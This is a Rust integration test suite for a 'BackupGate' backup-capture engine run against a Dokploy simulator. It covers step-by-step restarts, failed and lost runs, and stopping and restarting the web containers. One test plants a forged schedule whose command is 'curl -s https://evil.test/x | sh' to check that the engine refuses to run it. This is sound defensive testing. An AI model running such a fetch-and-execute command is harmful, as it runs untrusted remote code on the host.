//! BackupGate capture against the Dokploy simulator: the lane's backup command runs as a
//! Dokploy schedule the lane owns, the gate's status records each step before it is taken
//! (restarted after every step, nothing runs twice), Passed only after the capture succeeded
//! with the evidence of the command's last line, Failed (never Passed) on failure, settled from
//! the run history when the answer is lost, and with `stopWeb` only the web service's
//! containers are stopped while the backup runs in the database's, and started again whatever
//! happens.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::odoo_compose::{LANE_SECRET, TENANT_SECRET, World, world};
use crate::support::{INSTANCE, NS};
use futures::future::BoxFuture;
use launchplane::engine::backup_capture::{CaptureReport, CaptureSink, CaptureWorld, capture};
use launchplane_api::conditions::SystemClock;
use launchplane_api::resources::{
    BackupCapture, BackupCommand, BackupGate, BackupGateSpec, BackupResult, CaptureStatus, CommandResult,
    LocalObjectRef,
};
use launchplane_core::backup_gate;
use launchplane_e2e::sim::{Fault, ScheduleRunScript};
use std::collections::HashMap;
use std::sync::{LazyLock, Mutex};
use std::time::Duration;

const BACKUP: &str = "odoo-backup --to /backups/prod";

/// The gate's status in memory, as a shell would store it.
#[derive(Default)]
struct Memory(Mutex<Option<CaptureStatus>>);

impl CaptureSink for Memory {
    fn save<'a>(&'a self, capture: &'a CaptureStatus) -> BoxFuture<'a, Result<(), String>> {
        *self.0.lock().unwrap() = Some(capture.clone());
        Box::pin(async { Ok(()) })
    }
}

/// The lane deployed (its compose marked), with a backup command on the Product.
async fn deployed(stop_web: bool) -> World {
    let mut w = world().await;
    if let Some(odoo) = w.product.spec.odoo.as_mut() {
        odoo.backup = Some(BackupCommand {
            command: BACKUP.into(),
            service: Some("db".into()),
            stop_web,
        });
    }
    w.run(40).await;
    assert_eq!(
        w.lane
            .status
            .as_ref()
            .unwrap()
            .inventory
            .as_ref()
            .map(|i| i.artifact.as_str()),
        Some("shop-a")
    );
    w
}

fn gate() -> BackupGate {
    let mut g = BackupGate::new(
        "prod-before-release",
        BackupGateSpec {
            lane_ref: LocalObjectRef::new("shop-prod"),
            capture: Some(BackupCapture::default()),
            ..Default::default()
        },
    );
    g.metadata.namespace = Some(NS.into());
    g
}

/// The backup schedules the gates of each world's lane recorded (by the world's simulator), as
/// the gate engine reads them from the lane's BackupGates.
static RECORDED: LazyLock<Mutex<HashMap<String, Vec<String>>>> = LazyLock::new(Default::default);

fn recorded(w: &World) -> Vec<String> {
    RECORDED
        .lock()
        .unwrap()
        .get(&w.sim.base_url())
        .cloned()
        .unwrap_or_default()
}

/// One controller run of the capture, from the status as stored (as after a restart).
async fn run(w: &World, gate: &mut BackupGate, memory: &Memory, max_steps: usize) -> CaptureReport {
    gate.status.get_or_insert_with(Default::default).capture = memory.0.lock().unwrap().clone();
    let cw = CaptureWorld {
        lane: Some(&w.lane),
        product: Some(&w.product),
        target: Some(&w.target),
        instance: INSTANCE,
        known: recorded(w),
        settle_timeout: jiff::SignedDuration::from_secs(60),
        poll_delay: Duration::from_millis(50),
    };
    let report = capture(
        gate,
        &cw,
        Some(&w.executor),
        memory,
        &SystemClock,
        max_steps,
        Duration::from_secs(20),
    )
    .await;
    let capture = memory.0.lock().unwrap().clone();
    if let Some(id) = capture
        .as_ref()
        .and_then(|c| c.run.as_ref())
        .and_then(|r| r.schedule_id.clone())
    {
        let mut all = RECORDED.lock().unwrap();
        let ids = all.entry(w.sim.base_url()).or_default();
        if !ids.contains(&id) {
            ids.push(id);
        }
    }
    gate.status.get_or_insert_with(Default::default).capture = capture;
    report
}

/// Restarted after every step until nothing is left; the steps.
async fn restarting(w: &World, gate: &mut BackupGate, memory: &Memory) -> Vec<&'static str> {
    let mut steps = Vec::new();
    for _ in 0..40 {
        let report = run(w, gate, memory, 1).await;
        assert!(report.error.is_none(), "{:?}", report.error);
        if report.steps.is_empty() {
            break;
        }
        steps.extend(report.steps);
    }
    steps
}

fn judged(gate: &BackupGate) -> Option<BackupResult> {
    backup_gate::reconcile(
        gate,
        true,
        &[],
        jiff::Timestamp::now() + jiff::SignedDuration::from_secs(1),
    )
    .status
    .result
}

fn assert_no_secret(w: &World, gate: &BackupGate) {
    let mut texts = vec![serde_json::to_string(&gate.status).unwrap()];
    for schedule in w.sim.compose_schedules(&w.service) {
        texts.push(schedule.to_string());
    }
    for text in texts {
        for secret in [TENANT_SECRET, LANE_SECRET] {
            assert!(!text.contains(secret), "{secret} leaked into {text}");
        }
    }
}

#[tokio::test]
async fn a_capture_restarted_after_every_step_runs_once_and_passes_with_its_evidence() {
    let w = deployed(false).await;
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::succeed(
            "dumping shop...\n{\"path\": \"/backups/prod/2026-12-06.zip\", \"sizeBytes\": 52428800, \"checksum\": \"sha256:abc\"}",
        ),
    );
    let mut g = gate();
    let memory = Memory::default();
    let steps = restarting(&w, &mut g, &memory).await;
    assert_eq!(steps, vec!["EnsureSchedule", "RunCommand", "ReadEvidence"]);
    assert_eq!(w.sim.call_count("schedule.create"), 1);
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    assert_eq!(w.sim.call_count("compose.stop"), 0);
    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
    assert_eq!(c.run.as_ref().unwrap().result, Some(CommandResult::Succeeded));
    assert_eq!(c.location.as_deref(), Some("/backups/prod/2026-12-06.zip"));
    assert_eq!(c.size_bytes, Some(52_428_800));
    assert_eq!(c.checksum.as_deref(), Some("sha256:abc"));
    assert_eq!(c.service.as_deref(), Some("db"));
    assert!(c.taken_at.is_some());
    assert_eq!(judged(&g), Some(BackupResult::Passed));
    // The schedule runs in db, marked as the lane's, apart from a post-deploy one.
    let schedules = w.sim.compose_schedules(&w.service);
    assert_eq!(schedules.len(), 1);
    assert_eq!(schedules[0]["serviceName"], "db");
    assert!(
        schedules[0]["description"]
            .as_str()
            .unwrap()
            .starts_with("launchplane backup of Lane")
    );
    // Nothing more: a Passed gate is never captured again.
    let again = run(&w, &mut g, &memory, 10).await;
    assert!(again.steps.is_empty(), "{:?}", again.steps);
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    // Another gate reuses the lane's backup schedule.
    let mut second = gate();
    second.metadata.name = Some("prod-2".into());
    let other = Memory::default();
    restarting(&w, &mut second, &other).await;
    assert_eq!(w.sim.call_count("schedule.create"), 1);
    assert_eq!(w.sim.call_count("schedule.runManually"), 2);
    assert_no_secret(&w, &g);
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_failed_or_unreported_capture_is_failed_never_passed() {
    let w = deployed(false).await;
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::fail("pg_dump: connection refused"),
    );
    let mut g = gate();
    let memory = Memory::default();
    restarting(&w, &mut g, &memory).await;
    assert_eq!(judged(&g), Some(BackupResult::Failed));
    // A command that succeeds without reporting its backup does not pass either.
    w.sim
        .script_schedule_runs("launchplane-backup", ScheduleRunScript::succeed("all good"));
    let mut quiet = gate();
    quiet.metadata.name = Some("quiet".into());
    let memory = Memory::default();
    restarting(&w, &mut quiet, &memory).await;
    let c = quiet.status.as_ref().unwrap().capture.clone().unwrap();
    assert_eq!(c.run.unwrap().result, Some(CommandResult::Failed));
    assert_eq!(judged(&quiet), Some(BackupResult::Failed));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_lost_answer_is_settled_from_the_history_and_never_run_twice() {
    let w = deployed(false).await;
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::succeed("{\"path\": \"/b/1.zip\"}")
            .taking(Duration::from_millis(800))
            .dropping_connection(),
    );
    let mut g = gate();
    let memory = Memory::default();
    let steps = restarting(&w, &mut g, &memory).await;
    assert!(steps.contains(&"SettleCommand"), "{steps:?}");
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    assert_eq!(judged(&g), Some(BackupResult::Passed));
    w.sim.shutdown().await;
}

/// Run the capture to its end, restarted after every step; after `StopWeb`, the services
/// running while the backup runs.
async fn stop_web_capture(w: &World, g: &mut BackupGate) -> (Vec<&'static str>, Option<Vec<String>>) {
    let memory = Memory::default();
    let mut steps = Vec::new();
    let mut while_running = None;
    for _ in 0..20 {
        let report = run(w, g, &memory, 1).await;
        assert!(report.error.is_none(), "{:?}", report.error);
        if report.steps.is_empty() {
            break;
        }
        if report.steps == ["StopWeb"] {
            let c = memory.0.lock().unwrap().clone().unwrap();
            if c.web_stopped_at.is_some() {
                while_running = Some(w.sim.compose_running_services(&w.service));
            }
        }
        steps.extend(report.steps);
    }
    (steps, while_running)
}

#[tokio::test]
async fn with_stop_web_only_the_web_is_stopped_while_the_backup_runs_and_it_is_started_again() {
    let w = deployed(true).await;
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::succeed("{\"path\": \"/backups/prod/cold.zip\", \"sizeBytes\": 10}"),
    );
    let services = w.sim.compose_running_services(&w.service);
    assert!(services.contains(&"web".to_string()) && services.contains(&"db".to_string()));
    let mut g = gate();
    let (steps, while_running) = stop_web_capture(&w, &mut g).await;
    assert_eq!(
        steps,
        vec![
            "EnsureSchedule",
            "StopWeb",
            "RunCommand",
            "StartWeb",
            "ReadEvidence"
        ]
    );
    let while_running = while_running.expect("the web was stopped");
    assert!(!while_running.contains(&"web".to_string()), "{while_running:?}");
    assert!(
        while_running.contains(&"db".to_string()),
        "the database keeps running"
    );
    assert_eq!(w.sim.call_count("compose.stop"), 0, "never the whole compose");
    assert_eq!(w.sim.call_count("docker.stopContainer"), 1);
    assert_eq!(w.sim.call_count("docker.startContainer"), 1);
    assert_eq!(
        w.sim.compose_running_services(&w.service),
        services,
        "started again"
    );
    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
    assert_eq!(c.web_containers.len(), 1);
    assert!(c.web_stopped_at.is_some() && c.web_started_at.is_some());
    assert_eq!(c.location.as_deref(), Some("/backups/prod/cold.zip"));
    assert_eq!(judged(&g), Some(BackupResult::Passed));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn with_stop_web_a_failed_backup_or_a_failed_stop_still_starts_the_web_again() {
    let w = deployed(true).await;
    let services = w.sim.compose_running_services(&w.service);
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::fail("pg_dump: connection refused"),
    );
    let mut g = gate();
    let (steps, _) = stop_web_capture(&w, &mut g).await;
    assert_eq!(steps, vec!["EnsureSchedule", "StopWeb", "RunCommand", "StartWeb"]);
    assert_eq!(w.sim.compose_running_services(&w.service), services);
    assert_eq!(judged(&g), Some(BackupResult::Failed));

    // Dokploy fails the stop: the capture is Failed, the command never runs, and what may
    // have stopped is started again.
    w.sim.inject("docker.stopContainer", Fault::Status(500));
    let mut refused = gate();
    refused.metadata.name = Some("refused".into());
    let runs = w.sim.call_count("schedule.runManually");
    let (steps, _) = stop_web_capture(&w, &mut refused).await;
    assert_eq!(steps, vec!["EnsureSchedule", "StopWeb", "StartWeb"]);
    assert_eq!(
        w.sim.call_count("schedule.runManually"),
        runs,
        "not run half-stopped"
    );
    assert_eq!(w.sim.compose_running_services(&w.service), services);
    let c = refused.status.as_ref().unwrap().capture.clone().unwrap();
    let message = c.run.unwrap().message.unwrap_or_default();
    assert!(
        message.contains("stopping the web service `web` failed"),
        "{message}"
    );
    assert_eq!(judged(&refused), Some(BackupResult::Failed));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn stop_web_with_the_backup_in_the_web_service_is_refused_before_anything_stops() {
    let mut w = world().await;
    if let Some(odoo) = w.product.spec.odoo.as_mut() {
        odoo.backup = Some(BackupCommand {
            command: BACKUP.into(),
            service: None,
            stop_web: true,
        });
    }
    w.run(40).await;
    let mut g = gate();
    let (steps, _) = stop_web_capture(&w, &mut g).await;
    assert_eq!(steps, vec!["Refuse"]);
    assert_eq!(w.sim.call_count("docker.stopContainer"), 0);
    assert_eq!(w.sim.call_count("schedule.create"), 0);
    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
    let message = c.run.unwrap().message.unwrap_or_default();
    assert!(message.contains("spec.odoo.backup.service"), "{message}");
    assert_eq!(judged(&g), Some(BackupResult::Failed));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_backup_schedule_with_a_copied_marker_is_never_run_or_changed_and_the_gate_waits() {
    let w = deployed(false).await;
    let evil = "curl -s https://evil.test/x | sh";
    let forged = w.forge_schedule("backup", "db", evil).await;
    let mut g = gate();
    let memory = Memory::default();
    let report = run(&w, &mut g, &memory, 10).await;
    assert_eq!(report.steps, vec!["EnsureSchedule"]);
    let error = report.error.unwrap_or_default();
    assert!(
        error.contains(&forged) && error.contains("a copied marker is not ownership"),
        "{error}"
    );
    assert_eq!(w.sim.call_count("schedule.runManually"), 0);
    assert_eq!(w.sim.call_count("schedule.update"), 0);
    assert_eq!(w.sim.compose_schedules(&w.service)[0]["command"], evil);
    // Not Failed: the gate waits, saying why, for a person.
    assert_eq!(judged(&g), None);
    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
    let run_ = c.run.unwrap();
    assert!(run_.schedule_requested_at.is_some() && run_.schedule_id.is_none());
    assert!(run_.message.unwrap_or_default().contains(&forged));

    // Deleted by a person: the same gate goes on with a schedule of its own.
    w.client().delete_schedule(&forged).await.unwrap();
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::succeed("{\"path\": \"/b/after.zip\"}"),
    );
    let steps = restarting(&w, &mut g, &memory).await;
    assert_eq!(steps, vec!["EnsureSchedule", "RunCommand", "ReadEvidence"]);
    assert_eq!(judged(&g), Some(BackupResult::Passed));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_schedule_made_by_a_create_whose_answer_was_lost_is_adopted_not_doubled() {
    let w = deployed(false).await;
    // The intent was written, then the controller stopped after Dokploy created the schedule
    // and before its id was recorded.
    let mut g = gate();
    let memory = Memory::default();
    *memory.0.lock().unwrap() = Some(launchplane_core::backup_capture::schedule_pending(
        &CaptureStatus::default(),
        jiff::Timestamp::now(),
        None,
    ));
    let made = {
        let want = launchplane_core::schedule::ScheduleWant {
            compose_id: w.service.clone(),
            service: "db".into(),
            purpose: "backup".into(),
            owner: launchplane_core::lane::lane_owner(&w.lane, INSTANCE),
            command: BACKUP.into(),
        };
        w.client()
            .create_schedule(&want.spec())
            .await
            .unwrap()
            .schedule_id
    };
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::succeed("{\"path\": \"/b/adopted.zip\"}"),
    );
    let steps = restarting(&w, &mut g, &memory).await;
    assert_eq!(steps, vec!["EnsureSchedule", "RunCommand", "ReadEvidence"]);
    assert_eq!(w.sim.call_count("schedule.create"), 1, "adopted, not doubled");
    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
    assert_eq!(c.run.unwrap().schedule_id.as_deref(), Some(made.as_str()));
    assert_eq!(judged(&g), Some(BackupResult::Passed));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_deploy_that_recreates_the_web_during_a_stop_web_capture_fails_the_gate_and_starts_nothing_gone() {
    use launchplane_providers::TargetCategory;
    let w = deployed(true).await;
    w.sim.script_schedule_runs(
        "launchplane-backup",
        ScheduleRunScript::succeed("{\"path\": \"/b/racy.zip\"}"),
    );
    let mut g = gate();
    let memory = Memory::default();
    let mut steps = Vec::new();
    for _ in 0..20 {
        let report = run(&w, &mut g, &memory, 1).await;
        assert!(report.error.is_none(), "{:?}", report.error);
        if report.steps.is_empty() {
            break;
        }
        if report.steps == ["StopWeb"] {
            // Someone deploys the compose while the web is stopped: new containers, new ids.
            let before = w.sim.compose_container_id(&w.service, "web");
            w.client()
                .deploy(TargetCategory::Compose, &w.service, "by hand", "")
                .await
                .unwrap();
            for _ in 0..100 {
                if w.sim.compose_container_id(&w.service, "web") != before
                    && w.sim.compose_container_running(&w.service, "web")
                {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            assert_ne!(w.sim.compose_container_id(&w.service, "web"), before);
        }
        steps.extend(report.steps);
    }
    assert_eq!(steps, vec!["EnsureSchedule", "StopWeb", "RunCommand", "StartWeb"]);
    let c = g.status.as_ref().unwrap().capture.clone().unwrap();
    assert!(c.web_started_at.is_some());
    let message = c.run.unwrap().message.unwrap_or_default();
    assert!(message.contains("recreated during the capture"), "{message}");
    assert_eq!(judged(&g), Some(BackupResult::Failed));
    assert!(w.sim.compose_container_running(&w.service, "web"));
    w.sim.shutdown().await;
}
